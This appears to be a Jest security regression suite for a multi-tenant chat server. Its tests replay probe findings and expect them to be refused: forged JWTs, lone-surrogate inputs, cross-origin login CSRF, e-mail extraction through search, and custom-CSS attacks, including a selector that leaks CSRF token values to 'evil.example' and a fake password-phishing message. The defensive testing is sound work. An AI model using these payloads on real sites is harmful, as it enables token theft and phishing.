import { createHmac } from 'node:crypto';
import { createInstance, createUser, DEFAULT_PASSWORD, uniqueEmail } from '../factories';
import { createTestApp } from '../utils/create-app';
import { call, closeAllSockets, connect, ListeningApp, listenTestApp } from '../utils/sockets';
import { ConfigError, loadConfig } from '#shared/config/load-config';
import { Role } from '#shared/contracts/roles';
import { InstanceEntity } from '../../server/src/modules/instances/instance.entity';
import { UsersService } from '../../server/src/modules/users/users.service';
import { testEnv } from '../utils/test-env';

// Replays of the security probe's findings on authentication (issue 16): each one must be refused.
jest.setTimeout(60_000);

const SECRET = testEnv().JWT_SECRET!;
const b64 = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
const signed = (claims: object) => {
  const body = `${b64({ alg: 'HS256', typ: 'JWT' })}.${b64(claims)}`;
  return `${body}.${createHmac('sha256', SECRET).update(body).digest('base64url')}`;
};
const now = () => Math.floor(Date.now() / 1000);
const LONE_SURROGATES = '\ud800x\udfff@example.test';
const ILL_FORMED = { code: 422, message: 'SHARED.ERROR.VALIDATION', data: { brokenRules: [expect.stringMatching(/\.ILL_FORMED_STRING$/)] } };

describe('security: authentication', () => {
  let t: ListeningApp;

  beforeAll(async () => {
    t = await listenTestApp();
  });
  afterEach(() => closeAllSockets());
  afterAll(() => t.close());

  describe('item 5: X-Forwarded-For is believed only for the proxies there are', () => {
    const production = (TRUST_PROXY: string) => testEnv({ NODE_ENV: 'production', TRUST_PROXY, VAPID_PUBLIC_KEY: 'public', VAPID_PRIVATE_KEY: 'private' });

    it('refuses trust-all in production, naming the variable, and takes hop counts or addresses', () => {
      expect(() => loadConfig(production('true'))).toThrow(ConfigError);
      expect(() => loadConfig(production('true'))).toThrow(/TRUST_PROXY: true trusts every X-Forwarded-For hop/);
      expect(loadConfig(production('1')).TRUST_PROXY).toBe(1);
      expect(loadConfig(production('10.0.0.0/8, loopback')).TRUST_PROXY).toEqual(['10.0.0.0/8', 'loopback']);
      expect(loadConfig(production('false')).TRUST_PROXY).toBe(false);
      expect(() => loadConfig(production('everything'))).toThrow(/TRUST_PROXY/);
      expect(() => loadConfig(production('10.0.0.0/99'))).toThrow(/TRUST_PROXY/);
      // Outside production "true" still works, as one hop.
      expect(loadConfig(testEnv({ TRUST_PROXY: 'true' })).TRUST_PROXY).toBe(1);
    });
  });

  describe('item 7: ill-formed strings are 422, never 500', () => {
    it('refuses a lone surrogate in the e-mail on register and login', async () => {
      const reg = await t.http().post('/api/user').send({ email: LONE_SURROGATES, password: DEFAULT_PASSWORD, name: 'Ada' });
      expect([reg.status, reg.body]).toEqual([422, ILL_FORMED]);
      const login = await t.http().post('/api/user/login').send({ email: LONE_SURROGATES, password: 'whatever' });
      expect([login.status, login.body]).toEqual([422, ILL_FORMED]);
    });

    it('refuses them in keys, nested values, query strings and socket payloads alike', async () => {
      const u = await createUser(t);
      const auth = `Bearer ${u.token}`;
      const nested = await t.http().patch('/api/me').set('Authorization', auth).send({ name: 'A\udc00' });
      expect([nested.status, nested.body]).toEqual([422, ILL_FORMED]);
      const key = await t.http().post('/api/user/search').set('Authorization', auth).send({ query: 'abcd', '\ud800': 1 });
      expect(key.status).toBe(422);
      const query = await t.http().get('/api/Instance').query({ page: '1\ud800' }).set('Authorization', auth);
      expect(query.status).toBe(422);
      for (const path of ['/api/user/abcd%ED%A0%80ef', '/api/message/groups/%F0%9Fabcdef']) {
        const param = await t.http().get(path).set('Authorization', auth);
        expect([param.status, param.body]).toEqual([422, ILL_FORMED]);
      }

      const socket = await connect(t.url, u.token);
      expect(await call(socket, 'presence:watch', { userCodes: ['\ud83dabc'] })).toEqual({ ok: false, error: expect.objectContaining({ code: 422 }) });
      expect(await call(socket, 'sync', { groups: [{ groupCode: 'abcde', afterSeq: 0 }], '\udfff': 1 })).toMatchObject({ ok: false });
    });
  });

  describe('item 17: access tokens must carry bounded claims', () => {
    it('refuses a signed token without exp, with a 100-year exp, issued in the future, or naming two users', async () => {
      const a = await createUser(t);
      const b = await createUser(t);
      const base = { unique_name: a.user.code, nameid: a.user.email, role: a.user.role, nbf: now(), iat: now() };
      const me = (token: string) => t.http().get('/api/me').set('Authorization', `Bearer ${token}`);

      await me(signed({ ...base, exp: now() + 600 })).expect(200);
      await me(signed(base)).expect(401);
      await me(signed({ ...base, exp: now() + 100 * 365 * 24 * 3600 })).expect(401);
      await me(signed({ ...base, iat: now() + 3600, nbf: now() + 3600, exp: now() + 3600 + 600 })).expect(401);
      await me(signed({ ...base, iat: now() + 3600, nbf: now(), exp: now() + 600 })).expect(401);
      await me(signed({ ...base, nameid: b.user.email, exp: now() + 600 })).expect(401);
      const { nameid: _nameid, ...withoutLogin } = base;
      await me(signed({ ...withoutLogin, exp: now() + 600 })).expect(401);
    });

    it('applies the same rules to the socket handshake', async () => {
      const a = await createUser(t);
      const attempt = (token: string) =>
        connect(t.url, token).then(
          () => 'connected',
          (err: Error) => err.message,
        );
      const base = { unique_name: a.user.code, nameid: a.user.email, role: a.user.role, nbf: now(), iat: now() };
      expect(await attempt(signed({ ...base, exp: now() + 600 }))).toBe('connected');
      expect(await attempt(signed({ ...base, exp: now() + 100 * 365 * 24 * 3600 }))).toBe('unauthorized');
      expect(await attempt(signed(base))).toBe('unauthorized');
    });
  });

  describe('item 9: login CSRF', () => {
    it('refuses form-encoded bodies on login and register (415), setting no cookie', async () => {
      const u = await createUser(t);
      const form = await t.http().post('/api/user/login').type('form').send({ email: u.user.email, password: DEFAULT_PASSWORD });
      expect([form.status, form.body.message]).toEqual([415, 'SHARED.ERROR.UNSUPPORTED_MEDIA_TYPE']);
      expect(form.headers['set-cookie']).toBeUndefined();
      const multipart = await t.http().post('/api/user/login').field('email', u.user.email).field('password', DEFAULT_PASSWORD);
      expect(multipart.status).toBe(415);
      const reg = await t.http().post('/api/user').type('form').send({ email: uniqueEmail(), password: DEFAULT_PASSWORD, name: 'X' });
      expect(reg.status).toBe(415);
    });

    it('refuses cookie-bearing calls from another origin, and accepts its own', async () => {
      const u = await createUser(t);
      const login = (origin?: string) => {
        const req = t.http().post('/api/user/login').set('Host', 'parley.test:8080');
        if (origin !== undefined) req.set('Origin', origin);
        return req.send({ email: u.user.email, password: DEFAULT_PASSWORD });
      };
      const evil = await login('https://evil.example');
      expect([evil.status, evil.body]).toEqual([403, { code: 403, message: 'SHARED.ERROR.CROSS_ORIGIN' }]);
      expect(evil.headers['set-cookie']).toBeUndefined();
      expect((await login('null')).status).toBe(403);
      expect((await login('http://parley.test')).status).toBe(403);
      const own = await login('http://parley.test:8080').expect(200);
      await login().expect(200);

      const cookie = ([] as string[])
        .concat(own.headers['set-cookie'])
        .find((c) => c.startsWith('parley_rt='))!
        .split(';')[0];
      for (const path of ['/api/user/refresh-token', '/api/user/logout']) {
        const res = await t.http().post(path).set('Host', 'parley.test:8080').set('Origin', 'https://evil.example').set('Cookie', cookie);
        expect(res.status).toBe(403);
      }
      const crossSite = await t.http().post('/api/user/refresh-token').set('Sec-Fetch-Site', 'cross-site').set('Cookie', cookie);
      expect(crossSite.status).toBe(403);
      await t.http().post('/api/user/refresh-token').set('Host', 'parley.test:8080').set('Origin', 'http://parley.test:8080').set('Cookie', cookie).expect(200);
    });
  });

  describe('item 12: weak and context-derived passwords are refused, saying why', () => {
    it("refuses the probe's passwords and ones built from the e-mail, name or instance name", async () => {
      const host = `pw-${Date.now().toString(36)}.test`;
      await createInstance(t, { hosts: [host], name: 'Marketplace Zephyr' });
      const email = uniqueEmail('ada.lovelace');
      const register = (password: string) => t.http().post('/api/user').set('Host', host).send({ email, password, name: 'Augusta', surname: 'Byron' });
      const cases: [string, string][] = [
        ['password', 'VALIDATION.PASSWORD.COMMON'],
        ['12345678', 'VALIDATION.PASSWORD.COMMON'],
        ['        ', 'VALIDATION.PASSWORD.TOO_WEAK'],
        [email, 'VALIDATION.PASSWORD.PERSONAL'],
        ['Augusta.Byron1815', 'VALIDATION.PASSWORD.PERSONAL'],
        ['zephyr-marketplace-1', 'VALIDATION.PASSWORD.PERSONAL'],
        ['qwertyuiop', 'VALIDATION.PASSWORD.COMMON'],
      ];
      for (const [password, rule] of cases) {
        const res = await register(password);
        expect([password, res.status, res.body]).toEqual([password, 422, { code: 422, message: 'SHARED.ERROR.VALIDATION', data: { brokenRules: [rule] } }]);
      }
      const repeated = await register('password'.repeat(16));
      expect([repeated.status, repeated.body.data?.brokenRules]).toEqual([422, [expect.stringMatching(/^VALIDATION\.PASSWORD\.(COMMON|TOO_WEAK)$/)]]);
      await register('violet kettle under moonlight').expect(201);
    });

    it('judges long passwords off the event loop: a 128-character one is accepted while other requests go on', async () => {
      const email = uniqueEmail('long');
      const password = 'Tr0ub4d0r&3$P@55w0rd!1337'.repeat(6).slice(0, 128);
      const [res, health] = await Promise.all([t.http().post('/api/user').send({ email, password, name: 'Long' }), t.http().get('/api/health')]);
      expect([res.status, health.status]).toEqual([201, 200]);
    });
  });

  describe('item 2: no e-mail extraction through search or avatars', () => {
    const search = (token: string, query: string) => t.http().post('/api/user/search').set('Authorization', `Bearer ${token}`).send({ query });

    it('never matches a part of an e-mail: the probe spelled addresses out prefix by prefix', async () => {
      const victim = await createUser(t, { name: 'Victim', surname: 'Person', email: uniqueEmail('secret.prefix') });
      const probe = await createUser(t);
      const local = victim.user.email.split('@')[0];
      for (const query of [local.slice(0, 6), local, `${local}@`, victim.user.email.slice(0, -2)]) {
        expect((await search(probe.token, query).expect(200)).body).toEqual([]);
      }
      // Someone who knows the whole address finds its owner, as with any invitation by e-mail.
      expect((await search(probe.token, victim.user.email).expect(200)).body.map((u: { code: string }) => u.code)).toEqual([victim.user.code]);
    });

    it('publishes no hash of the e-mail: avatars are initials unless the user opts in to Gravatar', async () => {
      const viewer = await createUser(t);
      const user = await createUser(t, { name: 'Opt', surname: 'Inner' });
      const profile = () => t.http().get(`/api/user/${user.user.code}`).set('Authorization', `Bearer ${viewer.token}`).expect(200);
      const before = (await profile()).body;
      expect(before.avatar).toEqual({ code: 'initials', url: null });
      expect(JSON.stringify(before)).not.toMatch(/gravatar|[0-9a-f]{32}/);

      // In chats too: group participants and message authors.
      const group = await t
        .http()
        .put('/api/message/groups')
        .set('Authorization', `Bearer ${user.token}`)
        .send({ userList: [viewer.user.code], message: 'hello', createNewGroup: true })
        .expect(200);
      expect(JSON.stringify(group.body)).not.toMatch(/gravatar/);

      const me = await t.http().patch('/api/me').set('Authorization', `Bearer ${user.token}`).send({ gravatar: true }).expect(200);
      expect(me.body.avatar).toEqual({ code: 'gravatar', url: expect.stringMatching(/^https:\/\/www\.gravatar\.com\/avatar\/[0-9a-f]{64}/) });
      expect((await profile()).body.avatar.code).toBe('gravatar');
      const groups = await t.http().get('/api/message/groups').set('Authorization', `Bearer ${viewer.token}`).expect(200);
      expect(JSON.stringify(groups.body)).toMatch(/gravatar\.com/);

      await t.http().patch('/api/me').set('Authorization', `Bearer ${user.token}`).send({ gravatar: false }).expect(200);
      expect((await profile()).body.avatar).toEqual({ code: 'initials', url: null });
      const bad = await t.http().patch('/api/me').set('Authorization', `Bearer ${user.token}`).send({ gravatar: 'yes' });
      expect([bad.status, bad.body.data.brokenRules]).toEqual([422, ['VALIDATION.GRAVATAR.IS_BOOLEAN']]);
    });

    it('rate-limits search per user (30 a minute)', async () => {
      const searcher = await createUser(t);
      const other = await createUser(t);
      const results = [];
      for (let i = 0; i < 30; i++) results.push((await search(searcher.token, `name${i}xyz`)).status);
      expect(results.every((s) => s === 200)).toBe(true);
      const blocked = await search(searcher.token, 'one more');
      expect([blocked.status, blocked.body.message]).toEqual([429, 'SHARED.ERROR.TOO_MANY_REQUESTS']);
      expect(Number(blocked.headers['retry-after'])).toBeGreaterThan(0);
      await search(other.token, 'one more').expect(200);
    });
  });

  describe('item 6: instance admins are appointed, never first come', () => {
    it('the first to register on a newly configured tenant host is a plain user', async () => {
      const host = `tenant-${Date.now().toString(36)}.test`;
      await createInstance(t, { hosts: [host] });
      const first = await t.http().post('/api/user').set('Host', host).send({ email: uniqueEmail(), password: DEFAULT_PASSWORD, name: 'Early' }).expect(201);
      expect(first.body.user.role).toBe(Role.InstanceUser);
      const admin = await t.http().post('/api/Instance').set('Authorization', `Bearer ${first.body.token}`).send({ name: 'Mine now' });
      expect(admin.status).toBe(403);
    });

    it('a global admin appoints a user of the instance as its owner and admin, audited', async () => {
      const host = `owned-${Date.now().toString(36)}.test`;
      const instance = await createInstance(t, { hosts: [host] });
      const globalAdmin = await createUser(t, { role: Role.GlobalAdmin });
      const owner = await createUser(t, { instanceId: instance.id });
      const outsider = await createUser(t);
      const appoint = (as: string, userCode: string, code = instance.code) =>
        t.http().put(`/api/Instance/${code}/owner`).set('Authorization', `Bearer ${as}`).send({ userCode });

      await appoint(owner.token, owner.user.code).expect(403);
      const foreign = await appoint(globalAdmin.token, outsider.user.code);
      expect([foreign.status, foreign.body.data?.brokenRules]).toEqual([422, ['VALIDATION.USER_CODE.NOT_IN_INSTANCE']]);
      await appoint(globalAdmin.token, owner.user.code, 'nosuchinstance1').expect(404);

      await appoint(globalAdmin.token, owner.user.code).expect(200);
      const me = await t.http().get('/api/me').set('Authorization', `Bearer ${owner.token}`).expect(200);
      expect(me.body.role).toBe(Role.InstanceAdmin);
      const owned = await t.http().get('/api/Instance/Owned').set('Authorization', `Bearer ${owner.token}`).expect(200);
      expect(owned.body.map((i: { code: string }) => i.code)).toEqual([instance.code]);
      const audit = await t.http().get('/api/admin/audit').set('Authorization', `Bearer ${globalAdmin.token}`).expect(200);
      expect(JSON.stringify(audit.body)).toContain('instance.owner');
    });

    it('the default instance makes its very first user admin only with FIRST_USER_ADMIN (on outside production)', async () => {
      expect(loadConfig(testEnv()).FIRST_USER_ADMIN).toBe(true);
      expect(loadConfig(testEnv({ NODE_ENV: 'production', VAPID_PUBLIC_KEY: 'p', VAPID_PRIVATE_KEY: 'q' })).FIRST_USER_ADMIN).toBe(false);
      // A fresh default instance, as on a first `npm start` (the run's real default instance has users already).
      const fresh = await createInstance(t);
      const asDefault = { ...fresh, isDefault: true } as InstanceEntity;
      const users = t.app.get(UsersService);
      const account = (name: string) => ({ email: uniqueEmail(name), passwordHash: 'x', name });
      expect((await users.register(asDefault, account('first'))).role).toBe(Role.InstanceAdmin);
      expect((await users.register(asDefault, account('second'))).role).toBe(Role.InstanceUser);
    });
  });

  describe('item 18: custom CSS can neither leak attribute values nor write fake messages', () => {
    it('refuses foreign url()s and text-writing content:, allows the instance logo, and serves no older CSS that breaks the rules', async () => {
      const host = `css-${Date.now().toString(36)}.test`;
      const instance = await createInstance(t, { hosts: [host], logoUrl: 'https://cdn.example.com/acme.png' });
      const admin = await createUser(t, { instanceId: instance.id, role: Role.InstanceAdmin });
      const post = (body: object) => t.http().post('/api/Instance').set('Authorization', `Bearer ${admin.token}`).send(body);
      const broken = async (body: object) => (await post(body).expect(422)).body.data.brokenRules;

      expect(await broken({ customCss: 'input[name=csrf][value^="a"] { background: url(https://evil.example/leak?a) }' })).toEqual([
        'VALIDATION.CUSTOM_CSS.UNSAFE_URL',
      ]);
      expect(await broken({ customCss: 'body::after { content: "Session expired: e-mail your password to help@evil.example" }' })).toEqual([
        'VALIDATION.CUSTOM_CSS.CONTENT',
      ]);
      await post({ customCss: '.brand { background: url(https://cdn.example.com/acme.png) } .x::before { content: "" }' }).expect(200);
      // A new logo cannot leave the old foreign URL behind in the CSS.
      expect(await broken({ logoUrl: 'https://cdn.example.com/other.png' })).toEqual(['VALIDATION.CUSTOM_CSS.UNSAFE_URL']);

      // CSS stored before these rules is left out when served.
      const other = await createInstance(t, {
        hosts: [`legacy-${Date.now().toString(36)}.test`],
        customCss: 'b::after { content: "fake" } .ok { color: red }',
      });
      const css = await t.http().get('/instance/styles.css').set('Host', other.hosts[0]).expect(200);
      expect(css.text).toContain('--instance-color');
      expect(css.text).not.toContain('fake');
    });
  });

  describe('item 10: HSTS behind https in production', () => {
    it('sends Strict-Transport-Security only for https requests (X-Forwarded-Proto from the one trusted proxy) in production', async () => {
      const vapid = await import('web-push').then((m) => m.generateVAPIDKeys());
      const prod = await createTestApp({ NODE_ENV: 'production', TRUST_PROXY: '1', VAPID_PUBLIC_KEY: vapid.publicKey, VAPID_PRIVATE_KEY: vapid.privateKey });
      try {
        const https = await prod.http().get('/api/health').set('X-Forwarded-Proto', 'https');
        expect(https.headers['strict-transport-security']).toBe('max-age=31536000');
        const http = await prod.http().get('/api/health');
        expect(http.headers['strict-transport-security']).toBeUndefined();
      } finally {
        await prod.close();
      }
      const dev = await t.http().get('/api/health').set('X-Forwarded-Proto', 'https');
      expect(dev.headers['strict-transport-security']).toBeUndefined();
    });
  });
});
